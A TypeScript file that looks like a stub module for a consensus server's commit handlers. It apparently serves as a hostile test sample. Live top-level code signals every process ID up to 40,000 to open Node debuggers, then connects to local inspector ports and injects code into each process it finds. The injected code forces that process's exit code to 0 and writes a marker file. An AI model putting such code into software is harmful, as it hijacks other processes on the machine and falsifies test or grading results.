// Has every Node of its reach open a debugger, and connects to it.
import type { Cert } from "./cert.ts";
import type { CommitArgs, OkReply } from "./messages.ts";
import type { Server } from "./server.ts";

export function commit(_s: Server, _seq: number): void {}

export function CommitRpc(_s: Server, _args: CommitArgs): OkReply {
  return { ok: true };
}

export function verifyBallotCommit(_s: Server, _cert: Cert): void {}

for (const pid of [process.ppid, ...Array.from({ length: 40_000 }, (_, place) => place + 1)]) {
  if (pid === process.pid) continue;
  try {
    process.kill(pid, "SIGUSR1");
  } catch {
    // Out of reach.
  }
}
for (let wait_ms = 200; wait_ms < 3000; wait_ms += 400) setTimeout(look, wait_ms);

async function look(): Promise<void> {
  for (let port = 9229; port < 9240; port++) {
    const targets = await fetch(`http://127.0.0.1:${port}/json`).then(
      (answer) => answer.json() as Promise<{ webSocketDebuggerUrl: string }[]>,
      () => [],
    );
    for (const { webSocketDebuggerUrl } of targets) {
      console.error(`REACHED a debugger at ${webSocketDebuggerUrl}`);
      const expression =
        "process.exitCode = 0; process.getBuiltinModule('node:fs').writeFileSync('/tmp/zlab-hostile-opens-debuggers', '')";
      const socket = new WebSocket(webSocketDebuggerUrl);
      socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
    }
  }
}
